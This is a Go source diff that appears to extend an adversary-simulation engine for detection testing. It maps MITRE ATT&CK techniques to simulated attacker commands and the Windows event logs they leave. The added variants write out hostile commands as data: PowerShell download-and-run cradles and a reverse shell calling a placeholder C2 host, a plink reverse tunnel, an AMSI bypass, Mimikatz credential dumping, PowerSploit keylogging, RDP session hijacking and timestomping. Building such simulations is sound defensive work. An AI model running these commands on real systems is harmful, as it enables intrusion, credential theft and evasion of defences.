@@ -39,6 +39,30 @@ var further = map[string][]variant{
 	"T1018": {
 		by("net view", cmd(world.Net, `net view /domain`), cmd(world.Ping, `ping -n 1 -w 100 {dc}`)),
 	},
+	"T1021.001": {
+		by("desktop switched on", cmd(world.Reg, `reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f`), cmd(world.Netsh, `netsh advfirewall firewall add rule name="Remote Desktop" dir=in protocol=TCP localport=3389 action=allow`)),
+		by("through a tunnel", log("Security 4624", "LogonType", "10", "IpAddress", "127.0.0.1", "LogonProcessName", "User32 ", "TargetUserName", "{user}"), cmd(world.Dropped(`C:\Users\Public\plink.exe`, &plain), `plink.exe -R 4445:127.0.0.1:3389 -pw Summer2026 root@{c2ip}`)),
+		by("shadowed session", cmd(world.Mstsc, `mstsc.exe /v:{dc} /shadow:2 /noconsentprompt /control`), registry(`HKLM\SOFTWARE\Policies\Microsoft\Windows NT\Terminal Services\Shadow`, "DWORD (0x00000004)")),
+		by("taken over with tscon", asSystem(world.Services, world.Tscon, `tscon.exe 2 /dest:rdp-tcp#14`)),
+	},
+	"T1040": {
+		by("pktmon", cmd(world.InSystem32("PktMon.exe", "PktMon.exe", "Monitor internal packet propagation and packet drop reports"), `pktmon.exe start --etw -f C:\Windows\Temp\t1040.etl`)),
+		by("New-NetEventSession", powershell(`New-NetEventSession -Name Capture -LocalFilePath C:\Users\Public\c.etl; Add-NetEventPacketCaptureProvider -SessionName Capture; Start-NetEventSession -Name Capture`)),
+		by("capture driver", cmd(world.Dropped(`C:\Users\Public\npcap-installer.exe`, &plain), `npcap-installer.exe /S`), log("Sysmon 6", "ImageLoaded", `C:\Windows\System32\drivers\npcap.sys`), log("System 7045", "ServiceName", "Npcap Packet Driver (NPCAP)", "ImagePath", `\SystemRoot\system32\DRIVERS\npcap.sys`, "ServiceType", "kernel mode driver")),
+	},
+	"T1059.001": {
+		by("download and run", powershellPayload(`IEX (New-Object Net.WebClient).DownloadString('http://{c2}/Invoke-PowerShellTcp.ps1'); Invoke-PowerShellTcp -Reverse -IPAddress {c2ip} -Port 443`)),
+		by("web request", powershell(`Invoke-WebRequest -Uri http://{c2}/a.ps1 -OutFile C:\Users\Public\a.ps1; powershell -ExecutionPolicy Bypass -File C:\Users\Public\a.ps1`)),
+		by("stager", cmd(world.PowerShell, `powershell -noP -sta -w 1 -enc `+encoded(`If($PSVersionTable.PSVersion.Major -ge 3){$GPF=[ref].Assembly.GetType('System.Management.Automation.Utils')}`)),
+			block(`[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)`)),
+		by("older engine", cmd(world.PowerShell, `powershell.exe -version 2 -NoProfile -Command "Invoke-Expression (Get-Content C:\Users\Public\a.txt)"`), log("WindowsPowerShell 400", "Data", "Available, None, EngineVersion=2.0 HostApplication=powershell.exe -version 2")),
+		by("library of tools", block(`Import-Module C:\Users\Public\PowerSploit.psm1; Invoke-Shellcode -Force; Get-Keystrokes; Invoke-PsExec`)),
+		by("from the command interpreter", cmd(world.Cmd, `cmd.exe /c powershell -nop -w hidden -c "IEX(IWR http://{c2}/s)"`)),
+	},
+	"T1070.006": {
+		by("file's time set", either(timestomp, sh(world.Touch, "touch -d 2018-01-01 /tmp/.agent"))),
+		by("system's time set", either(powershell(`Set-Date -Date (Get-Date).AddDays(-3)`), sh(world.UnixProgram("/usr/bin/timedatectl"), "timedatectl set-time 2020-01-01")), either(log("Security 4616", "PreviousTime", "2026-03-03T08:00:00Z", "NewTime", "2026-02-28T08:00:00Z"), sh(world.UnixProgram("/bin/date"), "date -s 2020-01-01"))),
+	},
 	"T1027": {
 		by("CrackMapExec", powershellPayload(`Invoke-Mimikatz -Command "privilege::debug sekurlsa::logonpasswords exit"`)),
 		by("Invoke-Obfuscation", powershellPayload(`&("{1}{0}"-f'X','IE') (New-Object Net.WebClient).DownloadString('http://{c2}/s')`)),
@@ -99,6 +123,8 @@ var further = map[string][]variant{
 		by("runas", cmd(runas, `runas /user:{netbios}\svc_backup cmd.exe`)),
 		by("runas netonly", cmd(runas, `runas /netonly /user:{netbios}\da1 cmd.exe`)),
 		by("granted rights", log("Security 4717", "AccessGranted", "SeServiceLogonRight"), log("Security 4718", "AccessRemoved", "SeDenyNetworkLogonRight"), log("Security 4704", "PrivilegeList", "SeTcbPrivilege")),
+		by("made by hand", cmd(world.Dropped(`C:\Users\Public\incognito.exe`, &plain), `incognito.exe execute -c "{netbios}\da1" cmd.exe`), log("Security 4624", "LogonType", "9", "LogonProcessName", "Advapi  ", "AuthenticationPackageName", "Negotiate", "ImpersonationLevel", "%%1833")),
+		by("Invoke-TokenManipulation", block(`Invoke-TokenManipulation -ImpersonateUser -Username "nt authority\system"`)),
 		by("token::elevate", debugging(mimikatz, `mimikatz.exe "privilege::debug" "token::elevate" exit`)),
 	},
 	"T1136.001": {
@@ -330,6 +356,13 @@ var kerberosNames = move{"windows/security 4768 4771", func(a *Attempt, f *Footh
 		a.World.LogBy(a.Now, a.Actor, dc, nil, "Security 4768", "TargetUserName", name, "TargetSid", "S-1-0-0", "Status", "0x6", "TicketEncryptionType", "0xffffffff", "IpAddress", "::ffff:"+f.Host.IP)
 		a.World.LogBy(a.Now, a.Actor, dc, nil, "Security 4771", "TargetUserName", name, "IpAddress", "::ffff:"+f.Host.IP)
 	}
+	return world.Refusal{}
+}}
+
+// timestomp is a file whose creation time a program sets (Sysmon 2).
+var timestomp = move{"windows/sysmon 2", func(a *Attempt, f *Foothold) world.Refusal {
+	p := a.start(f, world.Dropped(`C:\Users\Public\timestomp.exe`, &a.Rand), `timestomp.exe C:\Users\Public\agent.exe -c "01/01/2018 08:00:00"`)
+	a.World.Log(a.Now, a.Actor, p, "Sysmon 2", "TargetFilename", `C:\Users\Public\agent.exe`, "CreationUtcTime", "2018-01-01 08:00:00.000")
 	return world.Refusal{}
 }}
 
